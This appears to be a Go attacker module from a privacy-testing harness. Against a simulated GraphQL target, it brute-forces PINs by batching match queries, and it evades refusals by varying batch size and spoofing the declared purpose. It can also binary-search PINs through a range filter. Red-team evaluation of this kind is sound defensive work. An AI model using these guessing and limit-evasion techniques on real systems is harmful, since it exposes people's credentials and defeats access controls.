// Package match attacks verification: a value that may be stated and compared
// can be guessed, if one may guess often enough. It promises to spend all
// guesses that it is given, many in one query.
package match

import (
	"context"
	"errors"
	"fmt"
	"strings"

	"github.com/weir-data/weir/examples/attackers/target"
)

// Attack is the attacker.
func Attack() *target.Attack {
	return &target.Attack{
		Name: "match", Oracle: "…Match: guessing a value within the budgets",
		// Twenty values may be stated about one person and day.
		Question: "what is the pin (0000 to 9999)?", Prior: 20.0 / 10_000,
		Truth: func(p *target.Person) string { return p.Pin },
		Run:   run,
	}
}

const together = 20

func run(ctx context.Context, c *target.Client, cs *target.Case) (map[string]string, error) {
	guesses := map[string]string{}
	a, err := c.Ask(ctx, "research", `{ persons(where: {pin: {_lt: "5000"}}) { idNumber } }`, nil)
	if err != nil {
		return guesses, err
	}
	if len(a.Codes) == 0 {
		cs.Say("a filter on it is answered: halving is enough")
		return guesses, halve(ctx, c, cs, guesses)
	}
	cs.Say("a filter on it: %s", a.Codes[0])
	stated, limited, codes := 0, map[string]bool{}, map[string]int{}
	for from := 0; ; from += together {
		for _, id := range cs.IDs {
			if guesses[id] != "" {
				continue
			}
			// Whoever is refused goes on, with fewer values at a time, other
			// words and another purpose: the count may be of something else.
			n, purpose := together, "research"
			if limited[id] {
				n, purpose = 1+cs.Random.IntN(together), [...]string{"research", "billing"}[cs.Random.IntN(2)]
			}
			var q strings.Builder
			for v := from; v < from+n; v++ {
				fmt.Fprintf(&q, ` m%04d: personMatch(idNumber: %q, expect: {pin: "%04d"})`, v%10_000, id, v%10_000)
			}
			a, err := c.Ask(ctx, purpose, "{"+q.String()+"}", nil)
			if errors.Is(err, target.ErrSpent) {
				cs.Say("%d values stated in all; refused: %v", stated, codes)
				return guesses, nil
			}
			if err != nil {
				return guesses, err
			}
			if len(a.Codes) > 0 {
				if len(limited) == 0 {
					cs.Say("after %d values about %d people: %s", stated, len(cs.IDs), a.Codes[0])
				}
				limited[id] = true
				codes[a.Codes[0]]++
				continue
			}
			stated += n
			for v := from; v < from+n; v++ {
				if target.At(a.Data, fmt.Sprintf("m%04d", v%10_000)) == true {
					guesses[id] = fmt.Sprintf("%04d", v%10_000)
				}
			}
		}
		if len(guesses) == len(cs.IDs) {
			return guesses, nil
		}
	}
}

// halve finds the pins through a filter.
func halve(ctx context.Context, c *target.Client, cs *target.Case, guesses map[string]string) error {
	for _, id := range cs.IDs {
		low, high := 0, 10_000
		for high-low > 1 {
			middle := (low + high) / 2
			a, err := c.Ask(ctx, "research", fmt.Sprintf(`{ persons(where: {idNumber: {_eq: %q}, pin: {_lt: "%04d"}}) { idNumber } }`, id, middle), nil)
			if err != nil {
				return err
			}
			if len(target.List(a.Data, "persons")) > 0 {
				high = middle
			} else {
				low = middle
			}
		}
		guesses[id] = fmt.Sprintf("%04d", low)
	}
	return nil
}
